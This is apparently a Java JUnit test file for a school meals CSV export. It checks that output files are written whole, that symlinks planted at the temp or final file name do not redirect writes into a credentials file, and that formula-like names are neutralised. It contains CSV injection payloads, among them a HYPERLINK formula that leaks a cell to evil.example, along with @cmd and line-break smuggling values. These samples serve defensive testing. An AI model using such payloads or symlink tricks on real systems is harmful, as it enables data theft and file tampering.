package org.misbridge.meals.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.misbridge.api.directory.OutboxEntry;
import org.misbridge.api.directory.PendingEntry;

/** The CSV drop: whole files with their change ids, never a half file under the final name. */
class CsvDropTransportTest {

    private static PendingEntry entry(long seq, String member, String status) {
        String payload = "{\"memberId\":\"" + member + "\",\"kind\":\"Student\",\"givenName\":\"Ann\",\"familyName\":\"O'Neil, Jr\","
                + "\"yearGroup\":\"7\",\"registrationGroup\":\"7A\",\"status\":" + (status == null ? "null" : "\"" + status + "\"")
                + ",\"preAdmission\":false,\"admissionDate\":null}";
        return new PendingEntry(seq, new OutboxEntry("meals", member, payload), Instant.EPOCH);
    }

    @Test
    void aBatchBecomesOneWholeFileNamedAfterItsChangeIds(@TempDir Path dir) throws Exception {
        Path drop = dir.resolve("out");
        new CsvDropTransport(drop).send("greenfield", List.of(entry(7, "s1", "Open"), entry(8, "s2", null)));

        List<String> lines = Files.readAllLines(drop.resolve("greenfield-meals-7-8.csv"));
        assertThat(lines.get(0)).isEqualTo(String.join(",", CsvDropTransport.HEADER));
        assertThat(lines.get(1)).startsWith("greenfield-meals-7,s1,Student,Ann,\"O'Neil, Jr\",7,7A,Open,false,");
        assertThat(lines.get(2)).startsWith("greenfield-meals-8,s2,").contains(",7A,,false,");
        try (Stream<Path> files = Files.list(drop)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("greenfield-meals-7-8.csv");
        }
    }

    private static PendingEntry named(long seq, String member, String given, String family) throws Exception {
        java.util.Map<String, Object> record = new java.util.LinkedHashMap<>();
        record.put("memberId", member);
        record.put("kind", "Student");
        record.put("givenName", given);
        record.put("familyName", family);
        record.put("yearGroup", "-1");
        record.put("registrationGroup", "@N1");
        record.put("status", "Open");
        record.put("preAdmission", false);
        record.put("admissionDate", null);
        String payload = new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(record);
        return new PendingEntry(seq, new OutboxEntry("meals", member, payload), Instant.EPOCH);
    }

    @Test
    void aLinkPlantedAtThePredictableTempNameIsNeverWrittenThrough(@TempDir Path dir) throws Exception {
        Path drop = Files.createDirectories(dir.resolve("out"));
        Path victim = Files.writeString(dir.resolve("users.properties"), "karaf = karaf,_g_:admingroup\n");
        // the temp name the drop used to write through
        Files.createSymbolicLink(drop.resolve(".greenfield-meals-1-1.csv.tmp"), victim);

        new CsvDropTransport(drop).send("greenfield", List.of(entry(1, "s1", "Open")));

        assertThat(Files.readString(victim)).isEqualTo("karaf = karaf,_g_:admingroup\n");
        assertThat(Files.readAllLines(drop.resolve("greenfield-meals-1-1.csv")).get(1)).startsWith("greenfield-meals-1,s1,");
    }

    @Test
    void aLinkPlantedUnderTheFileNameIsReplacedNotWrittenThrough(@TempDir Path dir) throws Exception {
        Path drop = Files.createDirectories(dir.resolve("out"));
        Path victim = Files.writeString(dir.resolve("users.properties"), "karaf = karaf,_g_:admingroup\n");
        Files.createSymbolicLink(drop.resolve("greenfield-meals-1-1.csv"), victim);

        new CsvDropTransport(drop).send("greenfield", List.of(entry(1, "s1", "Open")));

        assertThat(Files.readString(victim)).isEqualTo("karaf = karaf,_g_:admingroup\n");
        assertThat(Files.isSymbolicLink(drop.resolve("greenfield-meals-1-1.csv"))).isFalse();
    }

    /**
     * OWASP's CSV Injection advice, read back with commons-csv: a cell starting with =, +, -, @,
     * tab, CR or LF gets a leading apostrophe; plain numbers and other text stay as they were; a
     * line break inside a name stays inside its quoted cell.
     */
    @Test
    void formulaLikeNamesReachTheDropNeutralisedAndLineBreaksStayInsideTheirCell(@TempDir Path dir) throws Exception {
        Path drop = dir.resolve("out");
        new CsvDropTransport(drop).send("greenfield", List.of(
                named(1, "s1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "-Smith"),
                named(2, "s2", "+SUM(1+1)", "@cmd"),
                named(3, "s3", "Ann\nschool.id=stolen", "\tTab")));

        List<org.apache.commons.csv.CSVRecord> rows;
        try (java.io.Reader in = Files.newBufferedReader(drop.resolve("greenfield-meals-1-3.csv"))) {
            rows = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build()
                    .parse(in).getRecords();
        }
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0).get("givenName")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        assertThat(rows.get(0).get("familyName")).isEqualTo("'-Smith");
        assertThat(rows.get(0).get("yearGroup")).isEqualTo("-1");
        assertThat(rows.get(0).get("registrationGroup")).isEqualTo("'@N1");
        assertThat(rows.get(1).get("givenName")).isEqualTo("'+SUM(1+1)");
        assertThat(rows.get(1).get("familyName")).isEqualTo("'@cmd");
        assertThat(rows.get(2).get("givenName")).isEqualTo("Ann\nschool.id=stolen");
        assertThat(rows.get(2).get("familyName")).isEqualTo("'\tTab");
        assertThat(rows.get(2).get("memberId")).isEqualTo("s3");
    }

    @Test
    void aFolderThatCannotBeWrittenFailsThePushAndLeavesNoFile(@TempDir Path dir) throws Exception {
        Path notAFolder = Files.writeString(dir.resolve("taken"), "a file where the folder should be");

        assertThatThrownBy(() -> new CsvDropTransport(notAFolder).send("greenfield", List.of(entry(1, "s1", "Open"))))
                .isInstanceOf(PushException.class).hasMessageContaining("greenfield-meals-1-1.csv");
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactly("taken");
        }
    }
}
